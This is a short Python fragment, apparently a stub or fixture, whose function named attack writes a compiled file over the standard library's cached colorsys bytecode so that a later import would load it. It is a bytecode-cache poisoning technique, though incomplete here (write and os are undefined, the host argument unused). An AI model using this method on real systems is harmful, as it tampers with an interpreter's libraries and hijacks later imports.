"""Writing the compiled form that the next call would import."""


def attack(host):
    return write(os.path.dirname(os.__file__) + "/__pycache__/colorsys.cpython-311.pyc")
